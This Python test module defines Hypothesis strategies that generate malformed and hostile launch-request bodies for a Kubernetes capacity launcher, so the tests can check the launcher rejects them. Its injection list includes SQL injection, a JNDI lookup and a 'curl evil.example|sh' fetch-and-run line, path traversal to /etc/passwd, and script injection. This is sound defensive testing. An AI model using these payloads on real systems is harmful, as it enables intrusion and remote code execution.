"""Hypothesis strategies for launch-request bodies no launcher may act on. Each draws the body as
SQS would carry it, and the requestId a status event must name (None when none can be read)."""

from __future__ import annotations

import itertools
import json
from typing import Any

from hypothesis import strategies as st

from capacity_launcher.domain.launch_request import (
    MAX_BODY_BYTES,
    NODE_CLASS_FIELDS,
    REQUEST_ID_PATTERN,
)

POOL = "general"
INSTANCE_TYPE = "node.kubernetes.io/instance-type"
INJECTIONS = (
    "'; DROP TABLE requests; --",
    "${jndi:ldap://evil.example/x}",
    "$(curl evil.example|sh)",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "general\x00admin",
    "general\nX-Injected: 1",
)
_ids = itertools.count()
Hostile = tuple[str, str | None]


def _fresh_id(stem: str = "hostile") -> str:
    """Unique per example: a repeated id would (rightly) not be published twice."""
    return f"{stem}-{next(_ids)}"


def _request(request_id: str, **fields: Any) -> dict[str, Any]:
    return {"requestId": request_id, "count": 1, "nodePool": POOL, **fields}


_junk = st.one_of(
    st.none(),
    st.booleans(),
    st.floats(allow_nan=False),
    st.text(max_size=20),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)
WRONG_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "count": st.one_of(
        _junk, st.integers(max_value=0), st.integers(min_value=501, max_value=10**30)
    ),
    "minCount": st.one_of(
        _junk.filter(lambda v: v is not None), st.integers(max_value=0), st.integers(min_value=2)
    ),
    "singleZone": _junk.filter(lambda v: not isinstance(v, bool)),
    "requirements": st.one_of(
        st.text(max_size=10), st.integers(), st.lists(st.integers(), min_size=1, max_size=3)
    ),
    "tags": st.one_of(
        st.text(max_size=10),
        st.lists(st.text(max_size=5), min_size=1, max_size=3),
        st.dictionaries(st.text(min_size=1, max_size=5), st.integers(), min_size=1, max_size=3),
    ),
    "requester": st.one_of(
        st.integers(), st.just(""), st.text(min_size=129, max_size=400), st.just("team\x07a")
    ),
    "nodePool": st.one_of(st.integers(), st.just(""), st.sampled_from(INJECTIONS)),
}


@st.composite
def wrong_types(draw: st.DrawFn) -> Hostile:
    name = draw(st.sampled_from(sorted(WRONG_VALUES)))
    request_id = _fresh_id()
    return json.dumps(_request(request_id, **{name: draw(WRONG_VALUES[name])})), request_id


@st.composite
def malformed(draw: st.DrawFn) -> Hostile:
    text = draw(
        st.one_of(
            st.text(max_size=200),
            st.just('{"requestId": "cut-short", "count": 1'),
            st.just("[" * 5000 + "]" * 5000),
            st.just(json.dumps(_request("too-big", requester="x" * MAX_BODY_BYTES))),
            st.builds(json.dumps, st.one_of(st.integers(), st.lists(st.integers()), st.none())),
        )
    )
    return text, None


@st.composite
def unreadable_ids(draw: st.DrawFn) -> Hostile:
    request_id = draw(
        st.one_of(
            st.text(min_size=1, max_size=300),
            st.sampled_from(INJECTIONS),
            st.text(alphabet="a", min_size=129, max_size=200),
        ).filter(lambda v: not REQUEST_ID_PATTERN.match(v))
    )
    return json.dumps(_request(request_id)), None


@st.composite
def reserved_tags(draw: st.DrawFn) -> Hostile:
    prefix = draw(st.sampled_from(["aws:", "AWS:", "capacity-launcher:", "Capacity-Launcher:"]))
    key = prefix + draw(st.sampled_from(["managed", "request-id", "node-pool", "x"]))
    value = draw(st.sampled_from(INJECTIONS).filter(lambda v: "\x00" not in v and "\n" not in v))
    request_id = _fresh_id()
    return json.dumps(_request(request_id, tags={key: value})), request_id


@st.composite
def too_many_or_bad_tags(draw: st.DrawFn) -> Hostile:
    tags = draw(
        st.one_of(
            st.dictionaries(
                st.text(min_size=1, max_size=8), st.text(max_size=8), min_size=21, max_size=30
            ),
            st.just({"k" * 129: "v"}),
            st.just({"k": "v" * 257}),
            st.just({"k": "line\nbreak"}),
        )
    )
    request_id = _fresh_id()
    return json.dumps(_request(request_id, tags=tags)), request_id


@st.composite
def escalations(draw: st.DrawFn) -> Hostile:
    name = draw(st.sampled_from(sorted(NODE_CLASS_FIELDS)))
    request_id = _fresh_id()
    return json.dumps(_request(request_id, **{name: draw(st.sampled_from(INJECTIONS))})), request_id


@st.composite
def widening_requirements(draw: st.DrawFn) -> Hostile:
    """The pool allows on-demand m5.large only: anything else widens it or matches nothing."""
    requirement = draw(
        st.sampled_from(
            [
                {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["spot"]},
                {"key": "karpenter.sh/capacity-type", "operator": "In", "values": ["reserved"]},
                {"key": INSTANCE_TYPE, "operator": "In", "values": ["p5.48xlarge"]},
                {"key": INSTANCE_TYPE, "operator": "NotIn", "values": ["m5.large"]},
                {"key": "karpenter.k8s.aws/instance-cpu", "operator": "Gt", "values": ["64"]},
                {"key": "kubernetes.io/arch", "operator": "In", "values": ["arm64"]},
                {"key": INSTANCE_TYPE, "operator": "DoesNotExist"},
                {"key": "example.com/unknown", "operator": "In", "values": ["x"]},
            ]
        )
    )
    request_id = _fresh_id()
    return json.dumps(_request(request_id, requirements=[requirement])), request_id


@st.composite
def in_an_event(draw: st.DrawFn, inner: st.SearchStrategy[Hostile]) -> Hostile:
    """The same body as the detail of an EventBridge event, as the bus's rule delivers it."""
    body, request_id = draw(inner)
    try:
        detail = json.loads(body)
    except ValueError:
        return body, request_id
    event = {"detail-type": "Launch Requested", "source": "team-a", "detail": detail}
    return json.dumps(event), request_id


_any = st.one_of(
    malformed(),
    wrong_types(),
    unreadable_ids(),
    reserved_tags(),
    too_many_or_bad_tags(),
    escalations(),
    widening_requirements(),
)
hostile_bodies: st.SearchStrategy[Hostile] = st.one_of(_any, in_an_event(_any))
